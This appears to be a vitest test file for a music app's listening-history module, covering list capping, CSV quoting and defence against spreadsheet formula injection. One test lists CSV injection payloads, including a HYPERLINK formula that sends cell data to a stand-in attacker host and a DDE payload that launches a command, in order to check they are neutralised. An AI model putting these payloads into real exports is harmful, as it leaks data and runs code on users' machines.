import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { appendHistory, csvCell, historyToCsv, type HistoryEntry } from '../../../src/shared/history';
import { historyEntry as entry } from '../../samples/history';

describe('history', () => {
  it('drops the oldest entries at the cap', () => {
    let list: HistoryEntry[] = [];
    for (let i = 0; i < 7; i++) list = appendHistory(list, entry(i), 5);
    expect(list.map((h) => h.at)).toEqual([2, 3, 4, 5, 6]);
  });

  it('exports CSV with quoting', () => {
    const csv = historyToCsv([entry(Date.UTC(2026, 0, 1), { feedback: { override: 'sad' } })]);
    const [header, row] = csv.trim().split('\n');
    expect(header.split(',')).toContain('p_happy');
    expect(row).toContain('2026-01-01T00:00:00.000Z,happy,0.800');
    expect(row).toContain('"Song, with comma - A ""quoted"" band"');
    expect(row.endsWith('override:sad')).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as formulas (a hostile page names the track)', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '\u0000=1'];
    const list = attacks.map((title, i) => entry(i, { tracks: [{ title, artist: 'x' }], query: title }));
    const rows = Papa.parse<string[]>(historyToCsv(list), { newline: '\n' }).data.slice(1, -1);
    const header = Papa.parse<string[]>(historyToCsv(list), { newline: '\n' }).data[0];
    const [query, tracks] = [header.indexOf('query'), header.indexOf('tracks')];
    expect(rows).toHaveLength(attacks.length);
    rows.forEach((row, i) => {
      // Read back by a CSV parser: the same text, behind one apostrophe.
      expect(row[query]).toBe(`'${attacks[i]}`);
      expect(row[tracks]).toBe(`'${attacks[i]} - x`);
    });
  });

  it('quotes cells with a carriage return, quote, comma or line break, and leaves plain numbers and words alone', () => {
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('-3')).toBe('-3');
    expect(csvCell('-0.25')).toBe('-0.25');
    expect(csvCell('-3-1')).toBe("'-3-1");
    expect(csvCell('pop dance music')).toBe('pop dance music');
    expect(csvCell(null)).toBe('');
  });
});
